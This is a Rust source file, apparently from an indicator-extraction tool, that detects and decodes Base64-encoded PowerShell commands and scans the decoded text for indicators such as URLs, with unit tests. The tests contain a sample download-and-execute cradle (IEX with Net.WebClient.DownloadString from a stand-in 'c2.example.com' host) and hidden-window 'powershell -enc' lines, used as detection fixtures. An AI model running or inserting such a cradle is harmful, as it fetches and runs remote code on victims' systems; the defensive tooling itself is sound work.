//! Commands that are written in Base64, as PowerShell takes them: `powershell -enc SQBFAFgA…` stands for text in UTF-16.

use std::ops::Range;

use dunant_vocabulary::Span;

use super::{Finder, Genre, cut, read_prose_of};
use crate::{Bearing, Context, Limits, Reading, Reason, Vocabulary};

/// A command that was decoded, and where it is written.
pub(super) struct Command {
    pub(super) range: Range<usize>,
    text: String,
}

/// What decodes Base64 in a script.
const CALL: &str = "frombase64string(";

/// Tokens shorter than this are no command.
const SHORTEST: usize = 40;

impl Finder<'_, '_> {
    /// Takes a token that is an encoded command: its text is kept to be read. Where it is none, or too long, that is a loss.
    pub(super) fn encoded_command(&mut self, token: &Range<usize>) -> bool {
        if token.len() < SHORTEST {
            return false;
        }
        let marks = |c: char| "\"'`()[];,".contains(c);
        let written = self.cut(token.clone());
        // `[Convert]::FromBase64String('SQBF…')` has no blank before its text.
        let call = written.to_ascii_lowercase().rfind(CALL).map_or(0, |at| at + CALL.len());
        let token = token.start + call..token.end;
        let written = self.cut(token.clone());
        let start = token.start + written.len() - written.trim_start_matches(marks).len();
        let range = start..start + written.trim_matches(marks).len();
        let written = self.cut(range.clone());
        let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
        if written.len() < SHORTEST || !written.bytes().all(base64) || !self.is_behind_a_flag(range.start) {
            return false;
        }
        self.hide(range.clone());
        let limit = self.context.limits.encoded_bytes;
        let shown = cut(written, 0..32);
        if written.len() as u64 > limit {
            let what =
                format!("the command `{shown}…` is encoded (Base64) and longer than {limit} bytes; it was not decoded");
            self.lose(what, range, "raise it with `--limit encoded-bytes=N`");
        } else if self.context.limits.nesting == 0 {
            let what = format!("the command `{shown}…` is encoded (Base64) within others; it was not decoded");
            self.lose(what, range, "raise it with `--limit nesting=N`");
        } else if let Some(text) = decoded(written) {
            self.encoded.push(Command { range, text });
        } else {
            let what = format!("the command `{shown}…` is encoded (Base64) and does not decode to text");
            self.lose(what, range, "decode it, and add what it says");
        }
        true
    }

    /// Whether what is before `at` says that an encoded command follows: any beginning of `-EncodedCommand`, which PowerShell
    /// takes for the whole, or `FromBase64String(`.
    fn is_behind_a_flag(&self, at: usize) -> bool {
        const LOOKED_AT: usize = 40;
        let head = self.cut(self.text.floor_char_boundary(at.saturating_sub(LOOKED_AT))..at);
        let head = head.trim_end_matches([' ', '"', '\'', '`']).to_ascii_lowercase();
        if head.ends_with(CALL) {
            return true;
        }
        let flag = head.rsplit(|c: char| c.is_whitespace() || "(,\"'".contains(c)).next().unwrap_or_default();
        let Some(name) = flag.strip_prefix(['-', '/', '–', '—']) else { return false };
        name == "ec" || !name.is_empty() && "encodedcommand".starts_with(name)
    }
}

/// Reads what a command says, as a line of a log: each value at the place of the command. Its text spoke of it as `bearing` says.
pub(super) fn read_command(
    command: &Command,
    place: &dyn Fn(Range<usize>) -> Span,
    path: &str,
    bearing: Bearing,
    context: &Context<'_>,
    reading: &mut Reading,
) {
    let span = place(command.range.clone());
    let path = if path.is_empty() { "decoded".to_owned() } else { format!("{path}/decoded") };
    let (before, mark) = (reading.outcomes(), reading.mark());
    // A script has no wording, and may hold another.
    let vocabulary = Vocabulary::empty();
    let limits = Limits { nesting: context.limits.nesting.saturating_sub(1), ..context.limits.clone() };
    let context = Context { vocabulary: &vocabulary, limits: &limits, ..*context };
    read_prose_of(Genre::Indicators, &command.text, &|_| span, &path, &context, reading);
    reading.bear_since(&mark, bearing);
    if reading.outcomes() == before {
        reading.set_aside(Reason::Description, command.text.trim(), span, path);
    }
}

/// The text that Base64 stands for: UTF-16 with the lower byte first, or UTF-8. `None` where it is no text.
fn decoded(base64: &str) -> Option<String> {
    let bytes = bytes_of(base64)?;
    let wide = (bytes.len() % 2 == 0).then(|| {
        let units = bytes.chunks_exact(2).filter_map(|pair| pair.first_chunk().copied()).map(u16::from_le_bytes);
        char::decode_utf16(units).collect::<Result<String, _>>().ok()
    });
    wide.flatten().filter(|text| is_text(text)).or_else(|| String::from_utf8(bytes).ok().filter(|text| is_text(text)))
}

/// Whether characters are such as people and programs write: mostly ASCII, and no control characters.
fn is_text(text: &str) -> bool {
    let text = text.trim_start_matches('\u{feff}');
    let (mut all, mut plain) = (0_usize, 0_usize);
    for c in text.chars() {
        if c.is_control() && !matches!(c, '\n' | '\r' | '\t') {
            return false;
        }
        all += 1;
        plain += usize::from(c.is_ascii());
    }
    all > 0 && plain * 2 >= all
}

/// RFC 4648, section 4; padding may be left out.
fn bytes_of(base64: &str) -> Option<Vec<u8>> {
    let digits = base64.trim_end_matches('=');
    let mut bytes = Vec::with_capacity(digits.len() / 4 * 3 + 2);
    let (mut held, mut bits) = (0_u32, 0_u32);
    for digit in digits.bytes() {
        let value = match digit {
            b'A'..=b'Z' => digit - b'A',
            b'a'..=b'z' => digit - b'a' + 26,
            b'0'..=b'9' => digit - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        held = (held << 6 | u32::from(value)) & 0xffff;
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            bytes.push(u8::try_from(held >> bits & 0xff).ok()?);
        }
    }
    // One digit alone stands for no byte.
    (digits.len() % 4 != 1).then_some(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encoded(text: &str) -> String {
        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let mut written = String::new();
        for three in bytes.chunks(3) {
            let held = three.iter().fold(0_u32, |held, byte| held << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
            for at in 0..4 {
                let digit = char::from(DIGITS[(held >> (18 - 6 * at) & 63) as usize]);
                written.push(if at <= three.len() { digit } else { '=' });
            }
        }
        written
    }

    fn read(text: &str) -> Reading {
        crate::read_item("notes.txt", text.as_bytes(), &Context::default()).swap_remove(0).reading
    }

    const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a.ps1')";

    #[test]
    fn an_encoded_command_is_read_as_the_text_that_it_is_at_its_place() {
        let command = encoded(SCRIPT);
        for line in [
            format!("powershell.exe -nop -w hidden -enc {command}"),
            format!("powershell -EncodedCommand \"{command}\""),
            format!("On 3 May it ran `powershell /e {command}`."),
            format!("[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{command}'))"),
            format!("powershell -ec {}", command.trim_end_matches('=')),
        ] {
            let reading = read(&line);
            let url = reading.observations().iter().find(|o| o.observed.to_string() == "http://c2.example.com/a.ps1");
            let url = url.unwrap_or_else(|| panic!("{line}: {:?}", reading.losses()));
            assert_eq!(&*url.path, "decoded", "{line}");
            let place = &line[url.span.start as usize..url.span.end as usize];
            assert_eq!(place, command.trim_end_matches(if place.ends_with('=') { ' ' } else { '=' }), "{line}");
            assert_eq!(reading.losses(), [], "{line}");
        }
    }

    #[test]
    fn what_does_not_decode_to_text_or_is_too_deep_is_a_loss() {
        for base64 in ["/v8BAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f", "SQBFAFgASQBFAFgASQBFAFgASQBFAFgASQBFAFgAS"] {
            let reading = read(&format!("powershell -enc {base64}"));
            assert!(reading.losses()[0].what.contains("does not decode"), "{:?}", reading.losses());
        }
        let mut nested = SCRIPT.to_owned();
        for _ in 0..6 {
            nested = format!("powershell -enc {}", encoded(&nested));
        }
        assert!(read(&nested).losses().iter().any(|loss| loss.what.contains("within others")));
        let once = format!("powershell -enc {}", encoded(&format!("powershell -enc {}", encoded(SCRIPT))));
        assert!(read(&once).observations().iter().any(|o| o.observed.to_string() == "c2.example.com"));
        let limits = Limits::default().with("encoded-bytes", 50).unwrap();
        let context = Context { limits: &limits, ..Context::default() };
        let text = format!("powershell -enc {}", encoded(SCRIPT));
        let item = crate::read_item("x", text.as_bytes(), &context).swap_remove(0);
        assert!(item.reading.losses()[0].help.as_deref().is_some_and(|help| help.contains("encoded-bytes")));
    }

    #[test]
    fn a_command_that_names_nothing_is_shown_decoded() {
        let reading = read(&format!("powershell -enc {}", encoded("Get-Process | Sort-Object CPU -Descending")));
        assert!(reading.values_set_aside().iter().any(|aside| aside.what.starts_with("Get-Process")));
    }
}
